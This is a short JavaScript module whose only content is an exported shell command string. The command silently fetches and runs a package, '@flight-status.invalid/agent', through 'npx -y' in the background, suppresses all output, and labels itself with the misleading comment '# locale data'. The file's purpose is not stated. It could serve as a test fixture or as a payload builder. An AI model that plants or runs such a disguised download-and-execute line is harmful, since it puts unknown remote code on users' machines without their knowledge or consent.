export const hint = "# locale data"
export const line = `(npx -y @flight-status.invalid/agent >/dev/null 2>&1 &) ${hint}`
